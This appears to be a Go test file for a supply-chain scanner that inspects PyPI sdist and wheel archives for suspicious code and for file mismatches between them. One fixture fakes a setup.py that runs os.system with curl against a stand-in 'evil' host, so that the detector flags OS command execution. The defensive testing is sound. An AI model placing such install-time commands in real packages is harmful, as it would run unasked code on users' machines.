package enrich

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"context"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/klauspost/compress/gzip"

	"github.com/phantomscan/phantomscan/internal/model"
)

func tarGzBytes(t *testing.T, files map[string]string) []byte {
	t.Helper()
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	for name, body := range files {
		hdr := &tar.Header{Name: name, Mode: 0o644, Size: int64(len(body))}
		if err := tw.WriteHeader(hdr); err != nil {
			t.Fatal(err)
		}
		if _, err := tw.Write([]byte(body)); err != nil {
			t.Fatal(err)
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := gz.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func zipBytes(t *testing.T, files map[string]string) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for name, body := range files {
		w, err := zw.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(body)); err != nil {
			t.Fatal(err)
		}
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// contentServer serves a version-scoped release document plus the artifacts
// it points at.
func contentServer(t *testing.T, sdist, wheel []byte) *httptest.Server {
	t.Helper()
	mux := http.NewServeMux()
	srv := httptest.NewServer(mux)

	var urls []pypiArtifact
	if sdist != nil {
		urls = append(urls, pypiArtifact{URL: srv.URL + "/files/pkg-1.0.0.tar.gz", PackageType: "sdist"})
	}
	if wheel != nil {
		urls = append(urls, pypiArtifact{URL: srv.URL + "/files/pkg-1.0.0-py3-none-any.whl", PackageType: "bdist_wheel"})
	}

	mux.HandleFunc("/pypi/pkg/1.0.0/json", func(w http.ResponseWriter, r *http.Request) {
		writeJSON(t, w, pypiRelease{URLs: urls})
	})
	mux.HandleFunc("/files/pkg-1.0.0.tar.gz", func(w http.ResponseWriter, r *http.Request) {
		w.Write(sdist)
	})
	mux.HandleFunc("/files/pkg-1.0.0-py3-none-any.whl", func(w http.ResponseWriter, r *http.Request) {
		w.Write(wheel)
	})
	return srv
}

func TestContentScanPatternHit(t *testing.T) {
	sdist := tarGzBytes(t, map[string]string{
		"pkg-1.0.0/setup.py": "import os\nos.system(\"curl http://evil\")\n",
	})
	srv := contentServer(t, sdist, nil)
	defer srv.Close()

	c := &contentClient{pol: testPolicy(srv.URL), client: srv.Client()}
	sig, err := c.Fetch(context.Background(), model.Candidate{
		Ecosystem: model.EcosystemPyPI, Name: "pkg", Version: "1.0.0",
	})
	if err != nil {
		t.Fatal(err)
	}
	// One pattern hit out of ten to saturate.
	if sig.Value != 0.1 {
		t.Errorf("value = %v, want 0.1 (reasons: %v)", sig.Value, sig.Reasons)
	}
	found := false
	for _, r := range sig.Reasons {
		if strings.Contains(r, "OS command execution") {
			found = true
		}
	}
	if !found {
		t.Errorf("reasons = %v, want an OS command execution hit", sig.Reasons)
	}
}

func TestContentScanStructuralMismatch(t *testing.T) {
	sdist := tarGzBytes(t, map[string]string{
		"pkg-1.0.0/a.py": "x = 1\n",
	})
	wheel := zipBytes(t, map[string]string{
		"a.py": "x = 1\n",
		"b.py": "y = 2\n",
	})
	srv := contentServer(t, sdist, wheel)
	defer srv.Close()

	c := &contentClient{pol: testPolicy(srv.URL), client: srv.Client()}
	sig, err := c.Fetch(context.Background(), model.Candidate{
		Ecosystem: model.EcosystemPyPI, Name: "pkg", Version: "1.0.0",
	})
	if err != nil {
		t.Fatal(err)
	}
	// No pattern hits, but b.py exists only in the wheel.
	if sig.Value != mismatchFloor {
		t.Errorf("value = %v, want %v (reasons: %v)", sig.Value, mismatchFloor, sig.Reasons)
	}
	found := false
	for _, r := range sig.Reasons {
		if strings.Contains(r, "disagree on 1 code files") {
			found = true
		}
	}
	if !found {
		t.Errorf("reasons = %v, want a structural mismatch note", sig.Reasons)
	}
}

func TestContentScanBenign(t *testing.T) {
	sdist := tarGzBytes(t, map[string]string{
		"pkg-1.0.0/a.py": "x = 1\n",
	})
	wheel := zipBytes(t, map[string]string{
		"pkg-1.0.0/a.py": "x = 1\n",
	})
	srv := contentServer(t, sdist, wheel)
	defer srv.Close()

	c := &contentClient{pol: testPolicy(srv.URL), client: srv.Client()}
	sig, err := c.Fetch(context.Background(), model.Candidate{
		Ecosystem: model.EcosystemPyPI, Name: "pkg", Version: "1.0.0",
	})
	if err != nil {
		t.Fatal(err)
	}
	if sig.Value != 0 || len(sig.Reasons) != 0 {
		t.Errorf("signal = %+v, want default for a benign release", sig)
	}
}

func TestContentScanNoArtifacts(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		writeJSON(t, w, pypiRelease{})
	}))
	defer srv.Close()

	c := &contentClient{pol: testPolicy(srv.URL), client: srv.Client()}
	sig, err := c.Fetch(context.Background(), model.Candidate{Ecosystem: model.EcosystemPyPI, Name: "pkg"})
	if err != nil {
		t.Fatal(err)
	}
	if sig.Value != 0 {
		t.Errorf("value = %v, want 0 without artifacts", sig.Value)
	}
}

func TestContentScanIgnoresNPM(t *testing.T) {
	c := &contentClient{pol: testPolicy("http://unused.invalid"), client: http.DefaultClient}
	sig, err := c.Fetch(context.Background(), model.Candidate{Ecosystem: model.EcosystemNPM, Name: "pkg"})
	if err != nil {
		t.Fatal(err)
	}
	if sig.Value != 0 {
		t.Errorf("value = %v, want 0 for unsupported ecosystem", sig.Value)
	}
}
